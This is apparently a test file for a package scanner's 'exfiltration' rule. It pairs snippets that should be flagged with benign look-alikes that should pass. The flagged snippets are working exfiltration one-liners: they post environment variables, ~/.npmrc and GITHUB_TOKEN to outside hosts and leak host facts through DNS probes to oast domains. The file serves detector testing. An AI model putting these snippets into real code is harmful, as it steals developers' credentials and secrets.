import { ruleTable } from "../helpers.js";

ruleTable("exfiltration", {
  fail: [
    {
      name: "env to a webhook over https",
      code: "const https = require('https'); const req = https.request({ hostname: 'webhook.site', path: '/abc', method: 'POST' }); req.end(JSON.stringify(process.env));",
      atLeast: "critical",
    },
    {
      name: "dependency-confusion DNS probe",
      code: "const dns = require('dns'); const os = require('os'); dns.lookup(os.hostname() + '.' + os.userInfo().username + '.x.oast.fun', () => {});",
      atLeast: "critical",
    },
    {
      name: "npm token to a raw IP with fetch",
      code: "const t = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); fetch('http://45.9.12.7/c', { method: 'POST', body: t });",
      atLeast: "critical",
    },
    { name: "GITHUB_TOKEN posted at install", code: "const axios = require('axios'); axios.post('https://collector.example/x', { t: process.env.GITHUB_TOKEN });", installTime: true, atLeast: "critical" },
    { name: "discord webhook alone", code: "const HOOK = 'https://discord.com/api/webhooks/123/abc';", atLeast: "medium" },
    { name: "nslookup of a name built from host facts", code: "const { exec } = require('child_process'); const os = require('os'); exec('nslookup ' + Buffer.from(os.hostname() + os.userInfo().username).toString('hex') + '.x.oastify.com');", atLeast: "critical" },
    { name: "whole env packed into a payload at require time", code: "import axios from 'axios'; axios.post('https://stats.example.net/c', { h: 1, e: process.env });", atLeast: "critical" },
  ],
  pass: [
    { name: "HTTP client reading a proxy variable", code: "const https = require('https'); const proxy = process.env.HTTPS_PROXY; https.get(url, cb);" },
    { name: "telemetry opt-out check", code: "if (!process.env.DO_NOT_TRACK) fetch('https://telemetry.example.com/v1', { method: 'POST', body: JSON.stringify({ version }) });" },
    { name: "hostname for a local server", code: "const os = require('os'); server.listen(3000, () => console.log(os.hostname()));" },
    { name: "private IP in a dev server", code: "const url = 'http://192.168.1.10:8080/';" },
    { name: "env handed to a child process next to an HTTP client", code: "const https = require('https'); const cp = require('child_process'); cp.spawn('node', ['s.js'], { env: process.env }); https.get(url, cb);" },
    { name: "ping of a fixed host", code: "const { exec } = require('child_process'); exec('ping -c 1 example.com'); fetch(u);" },
    { name: "installer reading the home folder and platform before a download", code: "const os = require('os'); const dir = os.homedir() + '/.cache/tool-' + os.platform(); fetch(downloadUrl).then(save);", installTime: true },
    { name: "dns lookup of localhost with env enumerated for config", code: "const dns = require('dns'); const keys = Object.keys(process.env); dns.promises.lookup('localhost');" },
    { name: "a minified bundle's local function named ws", code: "function ws(x){return x} const k = Object.keys(process.env); ws('byobRequest');" },
  ],
});
